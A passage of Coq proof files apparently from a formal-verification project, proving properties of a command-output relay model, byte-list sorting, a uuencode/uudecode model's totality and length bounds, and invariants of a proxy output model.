  (byte_shl (m6 (x1 a b)) 4 + N.shiftr (m6 (x2 b d)) 2) mod 256 = b.
Proof.
  intros Ha Hb Hd.
  pose proof (all2_spec _ s1a_sweep a b Ha Hb) as H1. apply N.eqb_eq in H1.
  pose proof (all2_spec _ s1b_sweep b d Hb Hd) as H2. apply N.eqb_eq in H2.
  rewrite H1, H2.
  rewrite <- (N.div_mod b 16) by discriminate.
  apply N.mod_small. exact Hb.
Qed.

Lemma s2 b d : b < 256 -> d < 256 ->
  (byte_shl (m6 (x2 b d)) 6 + m6 (x3 d)) mod 256 = d.
Proof. intros Hb Hd. apply N.eqb_eq. exact (all2_spec _ s2_sweep b d Hb Hd). Qed.
