(** C14: the output stream can always still end - from every state of every
    run there is a continuation (the child writes what it has left and exits,
    the copiers drain the pipes and see end of file, the stream is closed)
    after which the stream is closed; with [all_relayed_before_eof] everything
    has then been delivered.  No run can get stuck. *)
From CRS Require Import Lib.Bytes Model.CmdShell Proofs.CmdShellProofs.
Open Scope N_scope.

Definition finish (s : cst) : list cstep :=
  [ChildWrite FOut (length (pend_o s)) (length (pend_o s) + length (pipe_o s));
   ChildWrite FErr (length (pend_e s)) (length (pend_e s) + length (pipe_e s));
   ChildExit;
   Copy FOut (length (pipe_o s) + length (pend_o s)); CopyEof FOut;
   Copy FErr (length (pipe_e s) + length (pend_e s)); CopyEof FErr;
   CloseStream].

Lemma min_all (a b : nat) : Nat.min a (a + b - b) = a.
Proof. lia. Qed.
Notation mk := Build_cst.

(** one step at a time, on explicit states *)
Lemma s_write_o po pe qo qe co ce d1 d2 cl :
  cnext (mk po pe qo qe false co ce d1 d2 cl) (ChildWrite FOut (length po) (length po + length qo))
  = mk [] pe (qo ++ po) qe false co ce d1 d2 cl.
Proof. cbn [cnext child_done pend_o pend_e pipe_o pipe_e copy_o_done copy_e_done deliv_o deliv_e closed]. rewrite min_all, firstn_all, skipn_all. reflexivity. Qed.
Lemma s_write_e po pe qo qe co ce d1 d2 cl :
  cnext (mk po pe qo qe false co ce d1 d2 cl) (ChildWrite FErr (length pe) (length pe + length qe))
  = mk po [] qo (qe ++ pe) false co ce d1 d2 cl.
Proof. cbn [cnext child_done pend_o pend_e pipe_o pipe_e copy_o_done copy_e_done deliv_o deliv_e closed]. rewrite min_all, firstn_all, skipn_all. reflexivity. Qed.
Lemma s_write_done f n c po pe qo qe co ce d1 d2 cl :
  cnext (mk po pe qo qe true co ce d1 d2 cl) (ChildWrite f n c) = mk po pe qo qe true co ce d1 d2 cl.
Proof. destruct f; reflexivity. Qed.
Lemma s_exit qo qe cd co ce d1 d2 cl :
  cnext (mk [] [] qo qe cd co ce d1 d2 cl) ChildExit = mk [] [] qo qe true co ce d1 d2 cl.
Proof. reflexivity. Qed.
Lemma s_copy_o n qo qe ce d1 d2 cl : (length qo <= n)%nat ->
  cnext (mk [] [] qo qe true false ce d1 d2 cl) (Copy FOut n) = mk [] [] [] qe true false ce (d1 ++ qo) d2 cl.
Proof. intros H. cbn [cnext child_done pend_o pend_e pipe_o pipe_e copy_o_done copy_e_done deliv_o deliv_e closed]. rewrite skipn_all2, firstn_all2 by exact H. reflexivity. Qed.
Lemma s_copy_o_done n qe ce d1 d2 cl :
  cnext (mk [] [] [] qe true true ce d1 d2 cl) (Copy FOut n) = mk [] [] [] qe true true ce d1 d2 cl.
Proof. reflexivity. Qed.
Lemma s_eof_o qe co ce d1 d2 cl :
  cnext (mk [] [] [] qe true co ce d1 d2 cl) (CopyEof FOut) = mk [] [] [] qe true true ce d1 d2 cl.
Proof. reflexivity. Qed.
Lemma s_copy_e n qe d1 d2 cl : (length qe <= n)%nat ->
  cnext (mk [] [] [] qe true true false d1 d2 cl) (Copy FErr n) = mk [] [] [] [] true true false d1 (d2 ++ qe) cl.
Proof. intros H. cbn [cnext child_done pend_o pend_e pipe_o pipe_e copy_o_done copy_e_done deliv_o deliv_e closed]. rewrite skipn_all2, firstn_all2 by exact H. reflexivity. Qed.
Lemma s_copy_e_done n d1 d2 cl :
  cnext (mk [] [] [] [] true true true d1 d2 cl) (Copy FErr n) = mk [] [] [] [] true true true d1 d2 cl.
Proof. reflexivity. Qed.
Lemma s_eof_e ce d1 d2 cl :
  cnext (mk [] [] [] [] true true ce d1 d2 cl) (CopyEof FErr) = mk [] [] [] [] true true true d1 d2 cl.
Proof. reflexivity. Qed.
Lemma s_close d1 d2 cl : closed (cnext (mk [] [] [] [] true true true d1 d2 cl) CloseStream) = true.
Proof. reflexivity. Qed.

Theorem can_always_end o e s : CInv o e s -> closed (fold_left cnext (finish s) s) = true.
Proof.
  intros [_ _ H3 H4 H5 H6]. unfold finish.
  destruct s as [po pe qo qe cd co ce d1 d2 cl].
  cbn [pend_o pend_e pipe_o pipe_e child_done copy_o_done copy_e_done closed] in *.
  cbn [fold_left].
  destruct cd.
  - (* the child has already exited: nothing pending *)
    destruct (H3 eq_refl) as [Po Pe]. subst po pe.
    rewrite !s_write_done, s_exit.
    destruct co.
    + destruct (H4 eq_refl) as [Qo _]. subst qo. rewrite s_copy_o_done, s_eof_o.
      destruct ce.
      * destruct (H5 eq_refl) as [Qe _]. subst qe. rewrite s_copy_e_done, s_eof_e. apply s_close.
      * rewrite s_copy_e by (cbn; lia). rewrite s_eof_e. apply s_close.
    + rewrite s_copy_o by (cbn; lia). rewrite s_eof_o.
      destruct ce.
      * destruct (H5 eq_refl) as [Qe _]. subst qe. rewrite s_copy_e_done, s_eof_e. apply s_close.
      * rewrite s_copy_e by (cbn; lia). rewrite s_eof_e. apply s_close.
  - (* still running: the copiers cannot have finished *)
    assert (co = false) as -> by (destruct co; [destruct (H4 eq_refl) as [_ X]; discriminate X | reflexivity]).
    assert (ce = false) as -> by (destruct ce; [destruct (H5 eq_refl) as [_ X]; discriminate X | reflexivity]).
    rewrite s_write_o, s_write_e, s_exit.
    rewrite s_copy_o by (rewrite app_length; lia). rewrite s_eof_o.
    rewrite s_copy_e by (rewrite app_length; lia). rewrite s_eof_e. apply s_close.
Qed.

(** From every state of every run the stream can still be brought to its end,
    and then everything the command wrote has been delivered. *)
Theorem every_run_can_complete o e sched :
  let s := crun o e sched in
  let s' := fold_left cnext (finish s) s in
  closed s' = true /\ deliv_o s' = o /\ deliv_e s' = e.
Proof.
  cbn zeta. pose proof (CInv_run o e sched _ (CInv_init o e)) as HI. fold (crun o e sched) in HI.
  pose proof (can_always_end o e _ HI) as Hc. split; [exact Hc|].
  replace (fold_left cnext (finish (crun o e sched)) (crun o e sched)) with (crun o e (sched ++ finish (crun o e sched))) in *
    by (unfold crun; rewrite fold_left_app; reflexivity).
  apply all_relayed_before_eof. exact Hc.
Qed.
