(** Order theory for [ble] / [sort_bytes] / [compact] (used by C17). *)
From CRS Require Import Lib.Bytes Lib.Sort.
From Coq Require Import Sorting.Sorted Sorting.Permutation.
Open Scope N_scope.

Lemma ble_refl a : ble a a = true.
Proof. induction a as [|x a IH]; [reflexivity|]. cbn. rewrite N.ltb_irrefl. exact IH. Qed.

Lemma ble_total a : forall b, ble a b = true \/ ble b a = true.
Proof.
  induction a as [|x a IH]; intros [|y b]; cbn; auto.
  destruct (x <? y) eqn:E1; [left; reflexivity|]. destruct (y <? x) eqn:E2; [right; reflexivity|].
  apply IH.
Qed.

Lemma ble_antisym a : forall b, ble a b = true -> ble b a = true -> a = b.
Proof.
  induction a as [|x a IH]; intros [|y b]; cbn; intros H1 H2; try reflexivity; try discriminate.
  destruct (x <? y) eqn:E1.
  - apply N.ltb_lt in E1. assert ((y <? x) = false) by (apply N.ltb_ge; lia). rewrite H in H2. discriminate.
  - destruct (y <? x) eqn:E2; [discriminate|]. apply N.ltb_ge in E1, E2. assert (x = y) by lia. subst. f_equal. apply IH; assumption.
Qed.

Lemma ble_trans a : forall b c, ble a b = true -> ble b c = true -> ble a c = true.
Proof.
  induction a as [|x a IH]; intros [|y b] [|z c]; cbn; intros H1 H2; try reflexivity; try discriminate.
  destruct (x <? y) eqn:E1; destruct (y <? z) eqn:E2.
  - apply N.ltb_lt in E1, E2. assert ((x <? z) = true) as -> by (apply N.ltb_lt; lia). reflexivity.
  - destruct (z <? y) eqn:E3; [discriminate|]. apply N.ltb_lt in E1. apply N.ltb_ge in E2, E3.
    assert ((x <? z) = true) as -> by (apply N.ltb_lt; lia). reflexivity.
  - destruct (y <? x) eqn:E3; [discriminate|]. apply N.ltb_lt in E2. apply N.ltb_ge in E1, E3.
    assert ((x <? z) = true) as -> by (apply N.ltb_lt; lia). reflexivity.
  - destruct (y <? x) eqn:E3; [discriminate|]. destruct (z <? y) eqn:E4; [discriminate|].
    apply N.ltb_ge in E1, E2, E3, E4. assert (x = y) by lia. assert (y = z) by lia. subst.
    rewrite N.ltb_irrefl. eapply IH; eassumption.
Qed.

Definition blt (a b : bytes) : bool := ble a b && negb (beq a b).

(** ** insertion sort *)
Lemma insert_perm x l : Permutation (insert_sorted x l) (x :: l).
Proof.
  induction l as [|y l IH]; cbn; [reflexivity|]. destruct (ble x y); [reflexivity|].
  rewrite IH. apply perm_swap.
Qed.
Lemma sort_perm l : Permutation (sort_bytes l) l.
Proof. induction l as [|x l IH]; cbn; [reflexivity|]. rewrite insert_perm. constructor. exact IH. Qed.

Definition le_p (a b : bytes) : Prop := ble a b = true.

Lemma insert_sorted_sorted x l : StronglySorted le_p l -> StronglySorted le_p (insert_sorted x l).
Proof.
  induction 1 as [|y l Hl IH Hy]; cbn; [constructor; constructor|].
  destruct (ble x y) eqn:E.
  - constructor; [constructor; assumption|]. constructor; [exact E|].
    eapply Forall_impl; [|exact Hy]. intros z Hz. eapply ble_trans; eassumption.
  - constructor; [exact IH|].
    assert (Hyx : le_p y x) by (destruct (ble_total x y) as [H|H]; [congruence | exact H]).
    apply Forall_forall. intros z Hz. apply (Permutation_in _ (insert_perm x l)) in Hz.
    destruct Hz as [<-|Hz]; [exact Hyx|]. rewrite Forall_forall in Hy. apply Hy, Hz.
Qed.
Lemma sort_sorted l : StronglySorted le_p (sort_bytes l).
Proof. induction l as [|x l IH]; cbn; [constructor | apply insert_sorted_sorted, IH]. Qed.

Lemma In_sort x l : In x (sort_bytes l) <-> In x l.
Proof. split; apply Permutation_in; [apply sort_perm | symmetry; apply sort_perm]. Qed.

(** ** strict order *)
Definition lt_p (a b : bytes) : Prop := blt a b = true.

Lemma lt_p_irrefl a : ~ lt_p a a.
Proof. unfold lt_p, blt. rewrite beq_refl, andb_false_r. discriminate. Qed.
Lemma lt_le a b : lt_p a b -> le_p a b.
Proof. unfold lt_p, blt, le_p. intros H. apply andb_true_iff in H as [H _]. exact H. Qed.
Lemma le_neq_lt a b : le_p a b -> a <> b -> lt_p a b.
Proof.
  unfold lt_p, blt, le_p. intros H Hn. rewrite H. cbn. apply negb_true_iff.
  destruct (beq a b) eqn:E; [apply beq_eq in E; contradiction | reflexivity].
Qed.
Lemma lt_le_trans a b c : lt_p a b -> le_p b c -> lt_p a c.
Proof.
  intros H1 H2. apply le_neq_lt; [eapply ble_trans; [apply lt_le; exact H1 | exact H2]|].
  intro E. subst c. assert (a = b) by (apply ble_antisym; [apply lt_le, H1 | exact H2]).
  subst b. exact (lt_p_irrefl a H1).
Qed.

(** ** compact of a sorted list is strictly sorted, same elements *)
Lemma In_compact_iff x l : In x (compact l) <-> In x l.
Proof.
  induction l as [|y l IH]; [reflexivity|]. cbn [compact]. destruct l as [|z l'].
  - reflexivity.
  - destruct (beq y z) eqn:E.
    + apply beq_eq in E. subst z. rewrite IH. cbn. tauto.
    + cbn [In]. rewrite IH. cbn. tauto.
Qed.

Lemma compact_strict l : StronglySorted le_p l -> StronglySorted lt_p (compact l).
Proof.
  induction 1 as [|y l Hl IH Hy]; [constructor|]. cbn [compact]. destruct l as [|z l'].
  - constructor; constructor.
  - destruct (beq y z) eqn:E; [exact IH|].
    constructor; [exact IH|]. apply Forall_forall. intros w Hw. apply (proj1 (In_compact_iff _ _)) in Hw.
    rewrite Forall_forall in Hy. inversion Hl as [|? ? Hl' Hz]; subst.
    assert (Hyz : lt_p y z).
    { apply le_neq_lt; [apply Hy; left; reflexivity|]. intro; subst. rewrite beq_refl in E. discriminate. }
    destruct Hw as [<-|Hw]; [exact Hyz|]. eapply lt_le_trans; [exact Hyz|]. rewrite Forall_forall in Hz. apply Hz, Hw.
Qed.

(** a sorted list without duplicates is strictly sorted *)
Lemma sorted_nodup_strict l : StronglySorted le_p l -> NoDup l -> StronglySorted lt_p l.
Proof.
  induction 1 as [|y l Hl IH Hy]; intros Hn; [constructor|]. inversion Hn as [|? ? Hny Hnl]; subst.
  constructor; [apply IH, Hnl|]. apply Forall_forall. intros z Hz. rewrite Forall_forall in Hy.
  apply le_neq_lt; [apply Hy, Hz | intro; subst; contradiction].
Qed.

Lemma strict_filter f l : StronglySorted lt_p l -> StronglySorted lt_p (filter f l).
Proof.
  induction 1 as [|y l Hl IH Hy]; cbn; [constructor|]. destruct (f y); [|exact IH].
  constructor; [exact IH|]. apply Forall_forall. intros z Hz. apply filter_In in Hz as [Hz _].
  rewrite Forall_forall in Hy. apply Hy, Hz.
Qed.

(** ** strictly sorted lists are determined by their elements *)
Lemma strict_head_min y l : StronglySorted lt_p (y :: l) -> forall z, In z (y :: l) -> le_p y z.
Proof.
  intros H z [<-|Hz]; [apply ble_refl|]. inversion H as [|? ? _ Hy]; subst.
  rewrite Forall_forall in Hy. apply lt_le, Hy, Hz.
Qed.

Theorem strict_sorted_unique l1 : forall l2, StronglySorted lt_p l1 -> StronglySorted lt_p l2 ->
  (forall x, In x l1 <-> In x l2) -> l1 = l2.
Proof.
  induction l1 as [|a l1 IH]; intros l2 H1 H2 Hiff.
  - destruct l2 as [|b l2]; [reflexivity|]. exfalso. apply (Hiff b). left. reflexivity.
  - destruct l2 as [|b l2]; [exfalso; apply (Hiff a); left; reflexivity|].
    assert (Eab : a = b).
    { apply ble_antisym.
      - apply (strict_head_min a l1 H1). apply Hiff. left. reflexivity.
      - apply (strict_head_min b l2 H2). apply Hiff. left. reflexivity. }
    subst b. f_equal. inversion H1 as [|? ? H1' Ha1]; subst. inversion H2 as [|? ? H2' Ha2]; subst.
    apply IH; try assumption. intros x. split; intros Hx.
    + assert (Hx2 : In x (a :: l2)) by (apply Hiff; right; exact Hx). destruct Hx2 as [<-|Hx2]; [|exact Hx2].
      exfalso. rewrite Forall_forall in Ha1. exact (lt_p_irrefl a (Ha1 a Hx)).
    + assert (Hx1 : In x (a :: l1)) by (apply Hiff; right; exact Hx). destruct Hx1 as [<-|Hx1]; [|exact Hx1].
      exfalso. rewrite Forall_forall in Ha2. exact (lt_p_irrefl a (Ha2 a Hx)).
Qed.
