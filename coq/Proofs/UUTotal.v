(** Totality, bounds, alphabet and error-location facts for the uu model. *)
From CRS Require Import Lib.Bytes Lib.Chunks Model.UU Proofs.UUBits Proofs.UUProofs.
Open Scope N_scope.

(** * Decoding never panics *)
Lemma chunked_all_full {A} n (cs : list (list A)) : (0 < n)%nat -> chunked n cs ->
  (length (concat cs) mod n = 0)%nat -> Forall (fun c => length c = n) cs.
Proof.
  intros Hn H. induction H as [|a Ha|a cs Ha Hne H IH]; intros Hm.
  - constructor.
  - cbn [concat] in Hm. rewrite app_nil_r in Hm. constructor; [|constructor].
    destruct (Nat.eq_dec (length a) n) as [|Hneq]; [assumption|].
    rewrite Nat.mod_small in Hm by lia. lia.
  - constructor; [assumption|]. apply IH.
    cbn [concat] in Hm. rewrite app_length, Ha in Hm.
    replace (n + length (concat cs))%nat with (length (concat cs) + 1 * n)%nat in Hm by lia.
    rewrite Nat.mod_add in Hm by lia. exact Hm.
Qed.

Lemma land3_mult4 n : (Z.land (Z.of_nat (S n) - 1) 3 =? 0)%Z = true -> (n mod 4 = 0)%nat.
Proof.
  intros Hland. apply Z.eqb_eq in Hland.
  replace (Z.of_nat (S n) - 1)%Z with (Z.of_nat n) in Hland by lia.
  change 3%Z with (Z.ones 2) in Hland. rewrite Z.land_ones in Hland by lia.
  change (2 ^ 2)%Z with 4%Z in Hland.
  apply Nat2Z.inj. rewrite Nat2Z.inj_mod. exact Hland.
Qed.

Lemma length_concat_full {A} n (cs : list (list A)) :
  Forall (fun c => length c = n) cs -> length (concat cs) = (n * length cs)%nat.
Proof.
  induction 1 as [|c cs Hc Hcs IH]; [simpl; lia|].
  cbn [concat length]. rewrite app_length, IH, Hc. lia.
Qed.

Lemma chunks4_full (data : bytes) : (length data mod 4 = 0)%nat ->
  Forall (fun c => length c = 4%nat) (chunks 4 data) /\ length data = (4 * length (chunks 4 data))%nat.
Proof.
  intros Hm. destruct (chunks_spec 4 ltac:(lia) data) as [Hcd Hcat].
  assert (Hf : Forall (fun c => length c = 4%nat) (chunks 4 data)).
  { apply chunked_all_full; [lia | exact Hcd | rewrite Hcat; exact Hm]. }
  split; [exact Hf|]. rewrite <- Hcat at 1. apply length_concat_full. exact Hf.
Qed.

Lemma dec_chunks_no_panic cs : forall off rem lineN,
  Forall (fun c => length c = 4%nat) cs -> dec_chunks cs off rem lineN <> Panic.
Proof.
  induction cs as [|c cs IH]; intros off rem lineN H.
  - discriminate.
  - inversion H as [|? ? Hc Hcs]; subst. cbn [dec_chunks].
    destruct (find_bad (map sanit c) 0) as [[i v]|]; [discriminate|].
    destruct c as [|c0 [|c1 [|c2 [|c3 [|c4 r]]]]]; simpl in Hc; try lia.
    cbn [map dec4].
    match goal with |- context [dec_chunks cs ?o ?r ?l] =>
      specialize (IH o r l Hcs); destruct (dec_chunks cs o r l) end;
      try discriminate. congruence.
Qed.

Lemma dec_line_no_panic lineN line : dec_line lineN line <> Panic.
Proof.
  unfold dec_line.
  set (line' := if last line 0 =? 13 then removelast line else line).
  destruct (Z.land (Z.of_nat (length line') - 1) 3 =? 0)%Z eqn:Hland; cbn [negb]; [|discriminate].
  destruct line' as [|l0 data] eqn:Hl.
  - exfalso. cbn in Hland. discriminate.
  - destruct (negb (l0 =? 96) && (l0 <? uuOffset)); [discriminate|].
    match goal with |- context [if negb ?b then _ else _] => destruct b; cbn [negb] end; [|discriminate].
    apply dec_chunks_no_panic. unfold encChunkLen.
    apply chunks4_full. apply land3_mult4. exact Hland.
Qed.

Lemma dec_lines_no_panic ls : forall lineN, dec_lines ls lineN <> Panic.
Proof.
  induction ls as [|l ls IH]; intros lineN; cbn [dec_lines]; [discriminate|].
  destruct l as [|x l']; [apply IH|].
  pose proof (dec_line_no_panic lineN (x :: l')) as H.
  destruct (dec_line lineN (x :: l')); try congruence.
  specialize (IH (lineN + 1)). destruct (dec_lines ls (lineN + 1)); congruence.
Qed.

Theorem decode_no_panic dst s : decode dst s <> Panic.
Proof.
  unfold decode. pose proof (dec_lines_no_panic (split_on 10 s) 0) as H.
  destruct (dec_lines (split_on 10 s) 0); congruence.
Qed.

(** * Appending *)
Theorem decode_appends dst s r : decode dst s = Ok r -> exists t, r = dst ++ t /\ decode [] s = Ok t.
Proof.
  unfold decode. destruct (dec_lines (split_on 10 s) 0); intros H; inversion H; subst.
  eexists; split; reflexivity.
Qed.

(** * Alphabet of encoder output *)
Lemma enc_line_alphabet l : (0 < length l <= 45)%nat ->
  Forall (fun c => c = 10 \/ 33 <= c <= 96) (enc_line l).
Proof.
  intros H. rewrite enc_line_split. apply Forall_app. split.
  - eapply Forall_impl; [|apply line_body_chars; exact H]. intros a Ha. right. exact Ha.
  - constructor; [left; reflexivity | constructor].
Qed.

Theorem encode_alphabet src : Forall (fun c => c = 10 \/ 33 <= c <= 96) (encode src).
Proof.
  unfold encode, lineLen. apply Forall_concat. rewrite Forall_map.
  destruct (chunks_spec 45 ltac:(lia) src) as [Hcd _].
  pose proof (chunked_length_le 45 _ ltac:(lia) Hcd) as Hl.
  eapply Forall_impl; [|exact Hl]. intros l Hlen. apply enc_line_alphabet. exact Hlen.
Qed.

(** * MaxEncodedLen never under-estimates *)
Lemma enc_line_length l : (0 < length l <= 45)%nat -> (length (enc_line l) <= 62)%nat.
Proof.
  intros H. unfold enc_line. cbn [length]. rewrite app_length. cbn [length].
  rewrite length_concat_enc3.
  destruct (chunks_spec 3 ltac:(lia) l) as [Hcd Hcat].
  pose proof (length_concat_chunked 3 _ Hcd) as [_ H2]. rewrite Hcat in H2.
  unfold decChunkLen.
  destruct (chunks 3 l) as [|c cs] eqn:E.
  - simpl. lia.
  - specialize (H2 ltac:(discriminate)). cbn [length] in *. lia.
Qed.

Lemma length_concat_le {A} (ls : list (list A)) k :
  Forall (fun l => (length l <= k)%nat) ls -> (length (concat ls) <= k * length ls)%nat.
Proof.
  induction 1 as [|l ls Hl Hls IH]; [simpl; lia|].
  cbn [concat length]. rewrite app_length. lia.
Qed.

Theorem encode_length_bound src :
  N.of_nat (length (encode src)) <= max_encoded_len (N.of_nat (length src)).
Proof.
  unfold encode, lineLen, max_encoded_len.
  destruct (chunks_spec 45 ltac:(lia) src) as [Hcd Hcat].
  pose proof (chunked_length_le 45 _ ltac:(lia) Hcd) as Hl.
  assert (H1 : (length (concat (map enc_line (chunks 45 src))) <= 62 * length (chunks 45 src))%nat).
  { rewrite <- (map_length enc_line). apply length_concat_le. rewrite Forall_map.
    eapply Forall_impl; [|exact Hl]. intros l Hlen. apply enc_line_length. exact Hlen. }
  pose proof (length_concat_chunked 45 _ Hcd) as [_ H2]. rewrite Hcat in H2.
  assert (H3 : (length (chunks 45 src) <= 1 + length src / 45)%nat).
  { destruct (chunks 45 src) as [|c cs] eqn:E; [simpl; lia|].
    specialize (H2 ltac:(discriminate)).
    assert (45 * (length (c :: cs) - 1) / 45 <= length src / 45)%nat by (apply Nat.div_le_mono; lia).
    rewrite Nat.mul_comm, Nat.div_mul in H by lia. lia. }
  assert (Hdiv : N.of_nat (length src) / 45 = N.of_nat (length src / 45)).
  { change 45 with (N.of_nat 45). rewrite <- Nat2N.inj_div. reflexivity. }
  rewrite Hdiv. lia.
Qed.

(** * MaxDecodedLen never under-estimates *)
Lemma dec_chunks_length cs : forall off rem lineN t,
  dec_chunks cs off rem lineN = Ok t -> (length t <= 3 * length cs)%nat.
Proof.
  induction cs as [|c cs IH]; intros off rem lineN t H.
  - inversion H. simpl. lia.
  - cbn [dec_chunks] in H.
    destruct (find_bad (map sanit c) 0) as [[i v]|]; [discriminate|].
    destruct (dec4 (map sanit c)) as [d|] eqn:Hd; [|discriminate].
    match type of H with context [dec_chunks cs ?o ?r ?l] =>
      destruct (dec_chunks cs o r l) as [t'| |] eqn:E end; try discriminate.
    inversion H; subst. apply IH in E.
    rewrite app_length, firstn_length. cbn [length].
    assert (length d = 3%nat).
    { destruct (map sanit c) as [|c0 [|c1 [|c2 [|c3 [|c4 r]]]]]; try discriminate.
      cbn [dec4] in Hd. inversion Hd. reflexivity. }
    lia.
Qed.

Lemma length_chunks_le {A} n (l : list A) : (0 < n)%nat -> (n * (length (chunks n l) - 1) <= length l)%nat.
Proof.
  intros Hn. destruct (chunks_spec n Hn l) as [Hcd Hcat].
  pose proof (length_concat_chunked n _ Hcd) as [_ H2]. rewrite Hcat in H2.
  destruct (chunks n l); [simpl; lia|]. specialize (H2 ltac:(discriminate)). lia.
Qed.

Lemma removelast_length {A} (l : list A) : length (removelast l) = (length l - 1)%nat.
Proof.
  induction l as [|x l IH]; [reflexivity|].
  destruct l as [|y l']; [reflexivity|].
  cbn [removelast length] in *. rewrite IH. lia.
Qed.

Lemma dec_line_length lineN line t : dec_line lineN line = Ok t -> (length t <= length line)%nat.
Proof.
  unfold dec_line.
  set (line' := if last line 0 =? 13 then removelast line else line).
  assert (Hl' : (length line' <= length line)%nat).
  { subst line'. destruct (last line 0 =? 13); [rewrite removelast_length|]; lia. }
  destruct (Z.land (Z.of_nat (length line') - 1) 3 =? 0)%Z eqn:Hland; cbn [negb]; [|discriminate].
  destruct line' as [|l0 data]; [discriminate|].
  destruct (negb (l0 =? 96) && (l0 <? uuOffset)); [discriminate|].
  match goal with |- context [if negb ?b then _ else _] => destruct b; cbn [negb] end; [|discriminate].
  intros H. apply dec_chunks_length in H. unfold encChunkLen in H.
  cbn [length] in Hl', Hland. apply land3_mult4 in Hland.
  destruct (chunks4_full data Hland) as [_ Hd]. lia.
Qed.

Lemma split_on_total_length sep s :
  (fold_right (fun l acc => length l + acc) 0 (split_on sep s) <= length s)%nat.
Proof.
  induction s as [|x s IH]; [simpl; lia|].
  cbn [split_on]. destruct (x =? sep).
  - cbn [fold_right length]. lia.
  - destruct (split_on sep s) as [|h t]; cbn [fold_right length] in *; lia.
Qed.

Lemma dec_lines_length ls : forall lineN t, dec_lines ls lineN = Ok t ->
  (length t <= fold_right (fun l acc => length l + acc) 0 ls)%nat.
Proof.
  induction ls as [|l ls IH]; intros lineN t H.
  - inversion H. simpl. lia.
  - cbn [dec_lines] in H. destruct l as [|x l'].
    + apply IH in H. cbn [fold_right length]. lia.
    + destruct (dec_line lineN (x :: l')) as [d| |] eqn:E1; try discriminate.
      destruct (dec_lines ls (lineN + 1)) as [t'| |] eqn:E2; try discriminate.
      inversion H; subst. apply dec_line_length in E1. apply IH in E2.
      rewrite app_length. cbn [fold_right]. lia.
Qed.

Theorem decode_length_bound s r : decode [] s = Ok r ->
  N.of_nat (length r) <= max_decoded_len (N.of_nat (length s)).
Proof.
  unfold decode. destruct (dec_lines (split_on 10 s) 0) as [t| |] eqn:E; try discriminate.
  intros H. inversion H; subst. cbn [app].
  apply dec_lines_length in E. pose proof (split_on_total_length 10 s) as Hs.
  unfold max_decoded_len.
  assert (N.of_nat (length s) <= N.of_nat (length s) * 16 / 3).
  { apply N.div_le_lower_bound; lia. }
  lia.
Qed.
