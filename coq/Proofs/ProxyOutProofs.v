(** C03 / C04 / C11 over the fine-grained model of proxyOut (Model/ProxyOut.v):
    invariants of every run. *)
From CRS Require Import Lib.Bytes Model.ProxyOut.

Definition qshape (l : list item) (r : rphase) : Prop :=
  exists ds, l = map IData ds \/ (l = map IData ds ++ [IErr] /\ r = RDone).

Record Inv (cap : nat) (s : pst) : Prop := {
  i_conserve : exists a b,
      readc s = shown s ++ och s ++ a ++ fhold (fw s) ++ qdata (q s) ++ rhold (rd s) ++ b /\
      (a <> [] -> fw s = FEndCancel) /\ (b <> [] -> rd s = RDone) /\
      (cancelled s = false -> a = [] /\ b = []);
  i_qshape : qshape (q s) (rd s);
  i_logged : logged s = shown s ++ och s;
  i_self : fw s = FEndSelf \/ fw s = FEndClosed -> q s = [] /\ rd s = RDone;
  i_qcap : (length (q s) <= qcap)%nat;
  i_ochcap : (length (och s) <= cap)%nat
}.

Ltac fin :=
  intros; try congruence; try contradiction;
  repeat match goal with
         | H : ?x <> [] -> _, H' : ?x <> [] |- _ => specialize (H H')
         | Hn : cancelled ?s = false -> _ /\ _, H : cancelled ?s = false |- _ => destruct (Hn H) as [? ?]; clear Hn; subst
         end;
  try congruence; try discriminate; auto.

Lemma qdata_app a b : qdata (a ++ b) = qdata a ++ qdata b.
Proof. unfold qdata. apply flat_map_app. Qed.
Lemma qdata_map ds : qdata (map IData ds) = ds.
Proof. induction ds as [|d r IH]; [reflexivity|]. cbn. f_equal. exact IH. Qed.

Lemma Inv_init cap reads : Inv cap (pinit reads).
Proof.
  constructor; cbn.
  - exists [], []. repeat split; auto. all: fin.
  - exists []. left. reflexivity.
  - reflexivity.
  - intros [X|X]; discriminate X.
  - unfold qcap. lia.
  - lia.
Qed.

(** shapes of the queue *)
Lemma qshape_snoc_data l r r' d : qshape l r -> r <> RDone -> qshape (l ++ [IData d]) r'.
Proof.
  intros [ds [H | [H Hr]]] Hn; [|contradiction].
  exists (ds ++ [d]). left. rewrite H, map_app. reflexivity.
Qed.
Lemma qshape_snoc_err l r : qshape l r -> r <> RDone -> qshape (l ++ [IErr]) RDone.
Proof.
  intros [ds [H | [H Hr]]] Hn; [|contradiction].
  exists ds. right. rewrite H. split; reflexivity.
Qed.
Lemma qshape_tail i l r : qshape (i :: l) r -> qshape l r.
Proof.
  intros [ds [H | [H Hr]]].
  - destruct ds as [|d ds]; [discriminate|]. inversion H. exists ds. left. reflexivity.
  - destruct ds as [|d ds].
    + inversion H. exists []. left. reflexivity.
    + inversion H. exists ds. right. split; [reflexivity | exact Hr].
Qed.
Lemma qshape_err_head l r : qshape (IErr :: l) r -> l = [] /\ r = RDone.
Proof.
  intros [ds [H | [H Hr]]].
  - destruct ds; discriminate.
  - destruct ds as [|d ds]; [|discriminate]. inversion H. split; [reflexivity | exact Hr].
Qed.
Lemma qshape_done l r : qshape l r -> qshape l RDone.
Proof. intros [ds [H | [H Hr]]]; exists ds; [left | right]; auto. Qed.
Lemma qshape_live l r r' : qshape l r -> r <> RDone -> qshape l r'.
Proof. intros [ds [H | [H Hr]]] Hn; [exists ds; left; exact H | contradiction]. Qed.

Ltac inv_intro H := destruct H as [[a [b [Hc [Ha [Hb Hn]]]]] Hq Hl Hs Hqc Hoc].

Lemma Inv_step cap s e : Inv cap s -> Inv cap (pnext cap s e).
Proof.
  intros H. destruct e; cbn [pnext].
  - (* PRead *)
    destruct (rd s) eqn:Er; try exact H. destruct (cancelled s) eqn:Ec; try exact H.
    destruct (src s) as [|[d er] rest] eqn:Es; try exact H.
    inv_intro H. rewrite Er in *. destruct (Hn Ec) as [-> ->].
    constructor; cbn.
    + exists [], []. destruct d as [|x d]; cbn [is_nil].
      * destruct er; cbn; (split; [rewrite Hc; cbn; reflexivity|]); repeat split; auto. all: fin.
      * cbn [rhold]. split; [rewrite Hc; cbn; rewrite !app_nil_r, <- !app_assoc; reflexivity|].
        repeat split; auto. all: fin.
    + destruct d as [|x d]; cbn [is_nil]; [destruct er|]; eapply qshape_live; try exact Hq; discriminate.
    + exact Hl.
    + intros Hf. destruct (Hs Hf) as [_ Hr]; discriminate Hr.
    + exact Hqc.
    + exact Hoc.
